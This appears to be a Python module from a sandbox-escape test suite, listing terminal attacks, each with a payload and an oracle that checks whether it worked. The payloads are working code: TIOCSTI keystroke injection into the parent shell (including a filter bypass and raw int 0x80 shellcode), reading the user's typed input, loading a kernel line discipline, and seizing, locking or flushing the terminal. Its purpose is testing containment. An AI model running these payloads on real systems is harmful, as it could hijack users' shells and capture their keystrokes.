"""Getting at the terminal from which the job was started."""

from __future__ import annotations

import contextlib
import fcntl
import os
import struct
import termios
from functools import partial
from typing import Final

from escape import witness
from escape.model import Attack, Run
from escape.oracles import leaks
from escape.scene import Scene

_attack = partial(Attack, kind="terminal", needs=("tty",), on_terminal=True)


def _typed(scene: Scene, run: Run) -> bool:
    """Something waits to be read by the shell, as if somebody had typed it."""
    return int.from_bytes(fcntl.ioctl(scene.terminal, termios.FIONREAD, bytes(4)), "little") > 0


def _shown(scene: Scene, run: Run) -> bool:
    """The token came out on the screen."""
    with contextlib.suppress(BlockingIOError):
        return scene.token.encode() in os.read(scene.master, 65536)
    return False


def _echo_is_off(scene: Scene, run: Run) -> bool:
    return not termios.tcgetattr(scene.terminal)[3] & termios.ECHO


def _resized(scene: Scene, run: Run) -> bool:
    return struct.unpack("=4H", fcntl.ioctl(scene.terminal, termios.TIOCGWINSZ, bytes(8)))[0] == 7


def _line_discipline(scene: Scene, run: Run) -> bool:
    return int.from_bytes(fcntl.ioctl(scene.terminal, termios.TIOCGETD, bytes(4)), "little") != 0


def _foreground_taken(scene: Scene, run: Run) -> bool:
    return os.tcgetpgrp(scene.terminal) != os.getpgrp()


def _is_exclusive(scene: Scene, run: Run) -> bool:
    """The user himself cannot open it any more."""
    try:
        os.close(os.open(scene.facts["tty"], os.O_RDWR | os.O_NOCTTY))
    except OSError:
        return True
    return False


def _does_not_wait(scene: Scene, run: Run) -> bool:
    return not os.get_blocking(scene.terminal)


def _input_is_gone(scene: Scene, run: Run) -> bool:
    """What the user had typed ahead."""
    return not _typed(scene, run)


_TRY: Final = "for fd in (0, 1, 2):\n    try: {}\n    except OSError: pass"
_OPEN: Final = "fd = os.open('/dev/tty', os.O_RDWR)\n"

ATTACKS: Final = (
    _attack(
        id="terminal-type",
        tries="types into the terminal by its own streams (TIOCSTI, CVE-2017-5226)",
        oracle=_typed,
        payload=_TRY.format("[fcntl.ioctl(fd, 0x5412, bytes([c])) for c in b'id\\n']"),
    ),
    _attack(
        id="terminal-type-upper-bits",
        tries="the same with bits set that a filter compares and the kernel drops (CVE-2019-10063)",
        oracle=_typed,
        payload=_TRY.format("[sc('ioctl', fd, 0x5412 | 1 << 40, bytes([c])) for c in b'id\\n']"),
    ),
    _attack(
        id="terminal-type-controlling",
        tries="types into the terminal of its session (/dev/tty)",
        oracle=_typed,
        payload=_OPEN + "[fcntl.ioctl(fd, 0x5412, bytes([c])) for c in b'id\\n']",
    ),
    _attack(
        id="terminal-type-int-0x80",
        tries="types by the 32-bit table of calls",
        oracle=_typed,
        payload="""
low = raw_mmap(8192, 7, 0x62)
ctypes.memmove(low + 4096, b'\\n', 1)
words = b'\\x53\\xb8\\x36\\0\\0\\0\\x31\\xdb\\xb9\\x12\\x54\\0\\0\\xba'
words += struct.pack('=I', low + 4096) + b'\\xcd\\x80\\x5b\\xc3'
ctypes.memmove(low, words, len(words))
ctypes.CFUNCTYPE(ctypes.c_int)(low)()
""",
    ),
    _attack(
        id="terminal-write",
        tries="writes onto the terminal by its path",
        oracle=_shown,
        payload="os.write(os.open(F['tty'], os.O_RDWR | os.O_NOCTTY), F['token'].encode())",
    ),
    _attack(
        id="terminal-write-controlling",
        tries="writes onto the terminal of its session",
        oracle=_shown,
        payload=_OPEN + "os.write(fd, F['token'].encode())",
    ),
    _attack(
        id="terminal-escape-sequence",
        tries="prints a sequence that makes the terminal act (a clipboard, a title)",
        oracle=_shown,
        payload="os.write(1, b'\\x1b]0;' + F['token'].encode() + b'\\x07')",
    ),
    _attack(
        id="terminal-read",
        tries="reads what the user types",
        needs=("tty", "typing"),
        on_terminal=False,
        oracle=leaks,
        payload="say(os.read(os.open(F['tty'], os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK), 100))",
    ),
    _attack(
        id="terminal-echo",
        tries="turns off that typing is shown",
        oracle=_echo_is_off,
        payload="""
import termios
for fd in (0, 1, 2):
    try:
        t = termios.tcgetattr(fd)
        t[3] &= ~termios.ECHO
        termios.tcsetattr(fd, termios.TCSANOW, t)
    except termios.error: pass
""",
    ),
    _attack(
        id="terminal-size",
        tries="changes the size of the terminal",
        oracle=_resized,
        payload=_TRY.format("fcntl.ioctl(fd, 0x5414, struct.pack('=4H', 7, 7, 0, 0))"),
    ),
    _attack(
        id="terminal-line-discipline",
        tries="puts a driver of the kernel behind the terminal (TIOCSETD, CVE-2017-2636)",
        oracle=_line_discipline,
        payload=_TRY.format("fcntl.ioctl(fd, 0x5423, struct.pack('=i', 27))"),
    ),
    _attack(
        id="terminal-foreground",
        tries="becomes the group that gets the keys (TIOCSPGRP)",
        oracle=_foreground_taken,
        payload="os.setpgid(0, 0)\nsignal.signal(signal.SIGTTOU, signal.SIG_IGN)\n"
        + _TRY.format("os.tcsetpgrp(fd, os.getpgrp())"),
    ),
    _attack(
        id="terminal-exclusive",
        tries="keeps everybody else from opening the terminal (TIOCEXCL)",
        oracle=_is_exclusive,
        payload=_TRY.format("fcntl.ioctl(fd, 0x540c)"),
    ),
    _attack(
        id="terminal-non-blocking",
        tries="makes the shell's reads return at once (O_NONBLOCK on the shared description)",
        oracle=_does_not_wait,
        payload=_TRY.format("os.set_blocking(fd, False)"),
    ),
    _attack(
        id="terminal-flush",
        tries="throws away what the user has typed ahead",
        needs=("tty", "typing"),
        oracle=_input_is_gone,
        payload="""
import termios
for fd in (0, 1, 2):
    try: termios.tcflush(fd, termios.TCIFLUSH)
    except termios.error: pass
""",
    ),
    _attack(
        id="terminal-make",
        tries="makes terminals of its own, of which the host has few",
        live=True,
        on_terminal=False,
        oracle=lambda scene, run: any(
            "/ptmx" in link for pid in witness.named(scene.tag) for link in witness.links(pid)
        ),
        payload="""
os.openpty()
hold()
""",
    ),
    _attack(
        id="terminal-list",
        tries="learns which terminals the host has",
        needs=("tty",),
        on_terminal=False,
        oracle=lambda scene, run: scene.facts["tty"].rsplit("/", 1)[1].encode() in run.stdout.splitlines(),
        payload="for n in os.listdir('/dev/pts'): say(n)",
    ),
)
